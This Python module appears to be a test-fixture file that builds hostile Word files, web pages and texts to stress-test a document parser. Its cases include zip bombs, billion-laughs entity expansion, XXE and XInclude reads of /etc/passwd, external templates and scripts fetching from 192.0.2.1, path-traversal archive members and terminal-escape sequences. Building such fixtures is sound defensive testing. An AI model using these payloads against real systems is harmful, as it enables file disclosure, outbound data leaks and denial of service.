"""Word files, web pages and texts that nobody's program writes: bombs, traps, nesting, odd bytes."""

import io
import random
import zipfile
from collections.abc import Callable

from hostile_pdfs import BODY, PAYLOAD, Kinds, ends_in

Case = tuple[Callable[[], bytes], Kinds]
DONE = ends_in("done")
BROKEN = ends_in("done", "damaged", "empty")
DAMAGED = ends_in("damaged")
HEAVY = ends_in("done", "damaged", "time-out", "out-of-memory", slow=True)
TEXT = ends_in("done", "encoding", "empty", "not-a-document")
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>\n'


# --- Word ---------------------------------------------------------------------------------------------------


def paragraph(text: str, properties: str = "") -> str:
    """Give a paragraph of a Word file."""
    return f"<w:p>{properties}<w:r><w:t>{text}</w:t></w:r></w:p>"


def body_of(content: str, before: str = "", prefixes: str = "") -> bytes:
    """Give the main part of a Word file."""
    opening = f'<w:document xmlns:w="{_WORD}" xmlns:r="{_OFFICE}"{prefixes}>'
    return f"{_DECLARATION}{before}{opening}<w:body>{content}</w:body></w:document>".encode()


def word(
    main: bytes, *, relations: str = "", parts: dict[str, bytes] | None = None, types: str = ""
) -> bytes:
    """Write a Word file of a main part, its relations and other parts."""
    members = {
        "[Content_Types].xml": (
            f'{_DECLARATION}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{_MAIN}"/>{types}</Types>'
        ).encode(),
        "_rels/.rels": (
            f'{_DECLARATION}<Relationships xmlns="{_RELATIONS}"><Relationship Id="rId1" '
            f'Type="{_OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>'
        ).encode(),
        "word/_rels/document.xml.rels": (
            f'{_DECLARATION}<Relationships xmlns="{_RELATIONS}">{relations}</Relationships>'
        ).encode(),
        "word/document.xml": main,
        **(parts or {}),
    }
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return packed.getvalue()


def good_word() -> bytes:
    """Write a Word file in which nothing is wrong."""
    return word(body_of(paragraph(BODY) * 3))


def _laughs(entity: str = "ENTITY") -> str:
    levels = "".join(f'<!{entity} l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    return f'<!DOCTYPE lolz [<!{entity} l0 "lol">{levels}]>'


def _relation(kind: str, target: str, *, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="rId9" Type="{_OFFICE}/{kind}" Target="{target}"{mode}/>'


def _styles(content: str) -> dict[str, bytes]:
    return {"word/styles.xml": f'{_DECLARATION}<w:styles xmlns:w="{_WORD}">{content}</w:styles>'.encode()}


_STYLES_RELATION = _relation("styles", "styles.xml", external=False)
_STYLES_TYPE = (
    '<Override PartName="/word/styles.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"/>'
)


def _styled(styles: str, content: str) -> bytes:
    return word(body_of(content), relations=_STYLES_RELATION, parts=_styles(styles), types=_STYLES_TYPE)


def _table(rows: int, columns: int, cell: str = "A word.") -> str:
    cells = f"<w:tc>{paragraph(cell)}</w:tc>" * columns
    return f"<w:tbl>{f'<w:tr>{cells}</w:tr>' * rows}</w:tbl>"


def _nested_tables(depth: int) -> str:
    opening, closing = "<w:tbl><w:tr><w:tc>", "<w:p/></w:tc></w:tr></w:tbl>"
    return opening * depth + paragraph(BODY) + closing * depth


def _encrypted_member() -> bytes:
    return good_word().replace(b"PK\1\2\x14\x03\x14\x00\x00\x00", b"PK\1\2\x14\x03\x14\x00\x01\x00")


def _nested_zip() -> bytes:
    content = good_word()
    for _ in range(50):
        content = word(body_of(paragraph(BODY)), parts={"word/embeddings/inner.docx": content})
    return content


def _numbered(kind: str) -> bytes:
    levels = (
        f'{_DECLARATION}<w:numbering xmlns:w="{_WORD}"><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0">'
        f'<w:start w:val="2147483647"/><w:numFmt w:val="{kind}"/><w:lvlText w:val="{"%1" * 1000}"/></w:lvl>'
        '</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
    )
    listed = '<w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr>'
    return word(
        body_of(paragraph(BODY, listed) * 3),
        relations=_relation("numbering", "numbering.xml", external=False),
        parts={"word/numbering.xml": levels.encode()},
        types=_STYLES_TYPE.replace("styles", "numbering"),
    )


def _deep_styles(count: int) -> bytes:
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{n}"><w:name w:val="s{n}"/><w:basedOn w:val="s{n + 1}"/>'
        "</w:style>"
        for n in range(count)
    )
    properties = '<w:pPr><w:pStyle w:val="s0"/></w:pPr>'
    return _styled(styles, paragraph(BODY, properties) * 20)


DOCX: dict[str, Case] = {
    "good": (good_word, DONE),
    "zip-bomb": (lambda: word(bytes(80 << 20)), DAMAGED),
    "zip-bomb-beside": (
        lambda: word(body_of(paragraph(BODY)), parts={"word/media/a.bin": bytes(600 << 20)}),
        ends_in("damaged", slow=True),
    ),
    "xml-bomb-within-limits": (lambda: word(body_of("<w:p/>" * 8_000_000)), HEAVY),
    "text-bomb": (lambda: word(body_of(paragraph("a" * (40 << 20)))), HEAVY),
    "many-parts": (
        lambda: word(body_of(paragraph(BODY)), parts={f"word/{n}.xml": b"<a/>" for n in range(12_000)}),
        DAMAGED,
    ),
    "zip-in-zip": (_nested_zip, DONE),
    "billion-laughs": (lambda: word(body_of(paragraph("&l11;"), before=_laughs())), DAMAGED),
    "laughs-after-a-comment": (
        lambda: word(body_of(paragraph(f"{BODY} &l11;"), before="<!-- <a -->" + _laughs())),
        BROKEN,
    ),
    "laughs-after-a-long-comment": (
        lambda: word(body_of(paragraph(f"{BODY} &l11;"), before=f"<!--{'x' * 9000}-->{_laughs()}")),
        BROKEN,
    ),
    "quadratic-laughs": (
        lambda: word(
            body_of(
                paragraph("&a;" * 50_000), before=f'<!-- <a --><!DOCTYPE a [<!ENTITY a "{"x" * 50_000}">]>'
            )
        ),
        BROKEN,
    ),
    "another-file": (
        lambda: word(
            body_of(
                paragraph(f"{BODY} &f;"),
                before='<!-- <a --><!DOCTYPE a [<!ENTITY f SYSTEM "file:///etc/passwd">]>',
            )
        ),
        BROKEN,
    ),
    "another-machine": (
        lambda: word(
            body_of(paragraph(BODY), before='<!-- <a --><!DOCTYPE a SYSTEM "http://192.0.2.1/evil.dtd">')
        ),
        BROKEN,
    ),
    "laughs-in-utf-16": (
        lambda: word(
            body_of(paragraph("&l11;"), before=_laughs()).decode().replace("UTF-8", "UTF-16").encode("utf-16")
        ),
        DAMAGED,
    ),
    "include": (
        lambda: word(
            body_of(
                '<xi:include href="file:///etc/passwd" parse="text"/>' + paragraph(BODY),
                prefixes=' xmlns:xi="http://www.w3.org/2001/XInclude"',
            )
        ),
        DONE,
    ),
    "external-template": (
        lambda: word(
            body_of(paragraph(BODY)), relations=_relation("attachedTemplate", "http://192.0.2.1/a.dotm")
        ),
        DONE,
    ),
    "external-picture": (
        lambda: word(body_of(paragraph(BODY)), relations=_relation("image", "\\\\192.0.2.1\\share\\a.png")),
        DONE,
    ),
    "external-styles": (
        lambda: word(body_of(paragraph(BODY)), relations=_relation("styles", "http://192.0.2.1/a.xml")),
        BROKEN,
    ),
    "external-footnotes": (
        lambda: word(body_of(paragraph(BODY)), relations=_relation("footnotes", "file:///etc/passwd")),
        BROKEN,
    ),
    "part-that-climbs": (
        lambda: word(
            body_of(paragraph(BODY)),
            relations=_relation("footnotes", "../../../../etc/passwd", external=False),
        ),
        BROKEN,
    ),
    "part-that-is-missing": (
        lambda: word(body_of(paragraph(BODY)), relations=_relation("footnotes", "no.xml", external=False)),
        BROKEN,
    ),
    "part-that-is-the-document": (
        lambda: word(
            body_of(paragraph(BODY)), relations=_relation("footnotes", "document.xml", external=False)
        ),
        BROKEN,
    ),
    "paths-that-climb": (
        lambda: word(body_of(paragraph(BODY)), parts={"../../evil.xml": b"<a/>", "/etc/evil.xml": b"<a/>"}),
        BROKEN,
    ),
    "encrypted-member": (_encrypted_member, DAMAGED),
    "deep-xml": (lambda: word(body_of("<w:ins>" * 50_000 + paragraph(BODY) + "</w:ins>" * 50_000)), BROKEN),
    "deep-xml-within-limits": (
        lambda: word(body_of("<w:sdt>" * 250 + paragraph(BODY) + "</w:sdt>" * 250)),
        BROKEN,
    ),
    "deep-runs": (
        lambda: word(body_of(f"<w:p>{'<w:r>' * 240}<w:t>{BODY}</w:t>{'</w:r>' * 240}</w:p>")),
        BROKEN,
    ),
    "nested-tables": (lambda: word(body_of(_nested_tables(80))), BROKEN),
    "large-table": (lambda: word(body_of(_table(100, 20))), DONE),
    "huge-table": (lambda: word(body_of(_table(5000, 40))), HEAVY),
    "huge-span": (
        lambda: word(
            body_of(
                "<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val='2147483647'/></w:tcPr>"
                f"{paragraph(BODY)}</w:tc></w:tr></w:tbl>"
            )
        ),
        DONE,
    ),
    "styles-in-a-ring": (
        lambda: _styled(
            '<w:style w:type="paragraph" w:styleId="a"><w:name w:val="a"/><w:basedOn w:val="b"/></w:style>'
            '<w:style w:type="paragraph" w:styleId="b"><w:name w:val="b"/><w:basedOn w:val="a"/></w:style>',
            paragraph(BODY, '<w:pPr><w:pStyle w:val="a"/></w:pPr>'),
        ),
        DONE,
    ),
    "deep-styles": (lambda: _deep_styles(1000), BROKEN),
    "levels-beyond-numbers": (
        lambda: word(
            body_of(
                paragraph(
                    BODY,
                    "<w:pPr><w:numPr><w:ilvl w:val='99999999999999999999'/><w:numId w:val='-1'/></w:numPr>"
                    "<w:outlineLvl w:val='x'/></w:pPr>",
                )
            )
        ),
        BROKEN,
    ),
    **{
        f"two-milliard-{kind}": (lambda kind=kind: _numbered(kind), DONE)
        for kind in ("lowerLetter", "upperRoman")
    },
    "no-body": (
        lambda: word(f'{_DECLARATION}<w:document xmlns:w="{_WORD}"/>'.encode()),
        ends_in("damaged", "empty"),
    ),
    "another-root": (lambda: word(b"<html><body>x</body></html>"), ends_in("damaged", "empty")),
    "steers-a-terminal": (lambda: word(body_of(paragraph(f"{BODY} \u202egnp.exe &#x9b;2J"))), BROKEN),
    "escape-character": (lambda: word(body_of(paragraph(f"{BODY} &#27;[2J"))), BROKEN),
    "half-characters": (lambda: word(body_of(paragraph(f"{BODY} &#xD800;"))), BROKEN),
    **{f"cut-{n}": (lambda n=n: good_word()[: len(good_word()) * n // 10], DAMAGED) for n in (1, 5, 9)},
}
"""Name of a Word file to what makes it, and what it may end in."""


# --- web pages ----------------------------------------------------------------------------------------------


def web(content: str, head: str = "") -> bytes:
    """Write a web page."""
    return (
        f"<!doctype html><html><head><title>A review</title>{head}</head>"
        f"<body><article>{content}</article></body></html>"
    ).encode("utf-8", "surrogatepass")


_P = f"<p>{BODY}</p>"


def _declared(charset: str) -> bytes:
    return web(_P * 3, f'<meta charset="{charset}">')


HTML: dict[str, Case] = {
    "good": (lambda: web(_P * 3), DONE),
    "deep": (lambda: web("<div>" * 100_000 + _P + "</div>" * 100_000), BROKEN),
    "deep-in-line": (lambda: web("<p>" + "<b>" * 50_000 + BODY), BROKEN),
    "deep-lists": (lambda: web("<ul><li>" * 3_000 + BODY), BROKEN),
    "deep-tables": (lambda: web("<table><tr><td>" * 1_000 + BODY), BROKEN),
    "never-closed": (lambda: web(f"<p>{BODY}" * 300 + "<div><span><a href='x'>"), DONE),
    "large-table": (lambda: web(f"<table>{'<tr>' + '<td>A word.</td>' * 10 + '</tr>'}" * 100), DONE),
    "huge-table": (lambda: web("<table>" + ("<tr>" + "<td>A word.</td>" * 50 + "</tr>") * 2_000), HEAVY),
    "huge-span": (
        lambda: web(f"<table><tr><td colspan=2147483647 rowspan=2147483647>{BODY}</table>"),
        DONE,
    ),
    "many-tags": (lambda: web(_P + "<br>" * 1_000_000), HEAVY),
    "long-line": (lambda: web(f"<p>{BODY * 20_000}</p>"), HEAVY),
    "long-attribute": (lambda: web(f"<p title='{'x' * 2_000_000}'>{BODY}</p>"), BROKEN),
    "long-comment": (lambda: web(f"<!-- {'x' * 5_000_000}{_P}"), BROKEN),
    "many-comments": (lambda: b"<!-- x -->" * 1600 + b"<!-" * 3000 + web(_P), TEXT),
    "many-attributes": (
        lambda: web(f"<p {' '.join(f'a{n}=x' for n in range(3_000))}>{BODY}</p>"),
        BROKEN,
    ),
    "odd-references": (lambda: web(f"<p>{BODY} &#0; &#x110000; &#xD800; &#27;[2J &#x202e; &nope; &#;"), DONE),
    "entities": (lambda: _laughs().encode() + web("<p>&l11;</p>" + _P), ends_in("done", "not-a-document")),
    "another-file": (
        lambda: (
            b'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
            + web(f"<p>&f;</p>{_P}")
        ),
        ends_in("done", "not-a-document"),
    ),
    "fetches": (
        lambda: web(
            _P * 3 + "<img src='http://192.0.2.1/a.png'><iframe src='http://192.0.2.1/'></iframe>"
            "<script>fetch('http://192.0.2.1/')</script><object data='file:///etc/passwd'></object>",
            "<base href='http://192.0.2.1/'><meta http-equiv=refresh content='0;url=http://192.0.2.1/'>"
            "<link rel=stylesheet href='http://192.0.2.1/a.css'><link rel=import href='//192.0.2.1/a.html'>",
        ),
        DONE,
    ),
    "nothing-but-a-script": (lambda: web("<script>document.write('x')</script>"), ends_in("empty", "done")),
    "steers-a-terminal": (lambda: web(f"<h1>{PAYLOAD}</h1>{_P * 30}<p>{PAYLOAD}</p>"), DONE),
    "half-characters": (lambda: web(f"<p>{BODY} \ud800</p>"), ends_in("done", "encoding")),
    "NULs": (lambda: web(_P * 3).replace(b"the", b"t\0he"), ends_in("done", "encoding")),
    **{
        f"declares-{charset}": (lambda charset=charset: _declared(charset), DONE)
        for charset in (
            "utf-7",
            "utf-16",
            "utf-32",
            "idna",
            "punycode",
            "unicode_escape",
            "raw_unicode_escape",
            "undefined",
            "zlib",
            "hex",
            "rot13",
            "mbcs",
            "oem",
            "cp037",
            "nobody",
            "x" * 500,
        )
    },
    "declares-idna-at-length": (
        lambda: web(f"<p>{BODY}</p>", '<meta charset="idna">') + b"a" * 500_000,
        DONE,
    ),
}
"""Name of a web page to what makes it, and what it may end in."""


# --- texts --------------------------------------------------------------------------------------------------

_MANY = 100_000


def _mixed() -> bytes:
    return "\n\n".join([BODY] * 3).encode() + "It was the mother’s café.\n".encode("cp1252") * 3


TEXTS: dict[str, Case] = {
    "good": (lambda: BODY.encode(), DONE),
    "NULs": (lambda: BODY.replace(" ", "\0 ").encode(), ends_in("encoding", "not-a-document")),
    "nothing-but-NULs": (lambda: bytes(1 << 20), ends_in("empty")),
    "half-characters": (lambda: f"{BODY} \ud800\udfff \udc80".encode("utf-8", "surrogatepass"), TEXT),
    "half-characters-in-utf-16": (
        lambda: b"\xff\xfe" + f"{BODY} \ud800 x".encode("utf-16-le", "surrogatepass"),
        TEXT,
    ),
    "utf-16-of-odd-length": (lambda: b"\xff\xfe" + BODY.encode("utf-16-le") + b"x", TEXT),
    "utf-32": (lambda: b"\xff\xfe\0\0" + BODY.encode("utf-32-le"), DONE),
    "mark-that-lies": (lambda: b"\xef\xbb\xbf" + b"\xff\xfe\xfd" + BODY.encode(), TEXT),
    "mixed-encodings": (_mixed, TEXT),
    "overlong": (lambda: BODY.encode() + b"\xc0\xaf\xe0\x80\xaf\xf8\x88\x80\x80\x80", TEXT),
    "EBCDIC": (lambda: (BODY * 5).encode("cp037"), TEXT),
    "noise": (lambda: random.Random(7).randbytes(100_000), TEXT),
    "steers-a-terminal": (lambda: f"{PAYLOAD}\n\n{BODY * 30} {PAYLOAD}".encode(), DONE),
    "bidi": (lambda: f"\u202e{BODY}\u202c \u2066x\u2069 \u200f\u061c".encode(), DONE),
    "right-to-left": (lambda: ("كانت المشرفة غائبة. " * 50).encode(), DONE),
    "emoji": (lambda: ("👩‍👩‍👧‍👦🏴󠁧󠁢󠁷󠁬󠁳󠁿 " * 500 + BODY).encode(), DONE),
    "nothing-but-emoji": (lambda: ("😀 " * 500).encode(), ends_in("empty", "done")),
    "piled-marks": (lambda: ("Z" + "\u0301\u0323" * _MANY + " " + BODY).encode(), DONE),
    "invisible": (lambda: ("\u200b" * _MANY + BODY).encode(), DONE),
    "long-line": (lambda: (BODY * 60_000).encode(), HEAVY),
    "long-word": (lambda: (BODY + " " + "a" * 10_000_000).encode(), HEAVY),
    "long-word-of-some": (lambda: (BODY + " " + "a" * 900_000).encode(), HEAVY),
    "spaces": (lambda: (BODY + " " * 10_000_000 + BODY).encode(), HEAVY),
    "many-lines": (lambda: b"a\n" * 500_000, HEAVY),
    "blank-lines": (lambda: BODY.encode() + b"\n" * 5_000_000 + BODY.encode(), HEAVY),
    "broken-words": (lambda: b"a-\n" * 50_000, HEAVY),
    "full-stops": (lambda: BODY.encode() + b"." * _MANY, BROKEN),
    "marks": (lambda: BODY.encode() + b" (" * 50_000, BROKEN),
    "numbers": (lambda: b"1." * 50_000 + BODY.encode(), BROKEN),
    "dashes": (lambda: BODY.encode() + b"\n" + b"-" * _MANY + b"\n", BROKEN),
    "quotes": (lambda: BODY.encode() + "“‘".encode() * 50_000, BROKEN),
    "abbreviations": (lambda: b"Mr. Dr. e.g. " * 3_000, BROKEN),
    "dates": (lambda: b"1 January 2010 to 2 March 2011, published " * 10_000, HEAVY),
    "facts": (lambda: b"Serious Case Review Child Practice Review " * 10_000, HEAVY),
    "ages": (lambda: b"aged 4 years 3 months old baby Child A " * 10_000, HEAVY),
    "capitals": (lambda: b"Safeguarding Children Board " * 15_000, HEAVY),
    "headings": (lambda: b"1.1 A heading\n\n" * 20_000, HEAVY),
    "hashes": (lambda: b"#" * _MANY + b" a\n" + BODY.encode(), BROKEN),
    "underlines": (lambda: b"A\n=\n" * 20_000, HEAVY),
    "form-feeds": (lambda: BODY.encode() + b"\f" * _MANY + BODY.encode(), BROKEN),
    "carriage-returns": (lambda: BODY.encode() + b"\r" * _MANY + BODY.encode(), BROKEN),
    "links": (lambda: b"http://a.b/" * 10_000 + BODY.encode(), BROKEN),
    "addresses": (lambda: b"a@" * 50_000 + BODY.encode(), BROKEN),
    "apostrophes": (lambda: b"'" * _MANY + b" " + BODY.encode(), BROKEN),
    "digits": (lambda: b"9" * _MANY + b" " + BODY.encode(), BROKEN),
    "commas": (lambda: b"a," * 200_000, HEAVY),
}
"""Name of a text to what makes it, and what it may end in."""
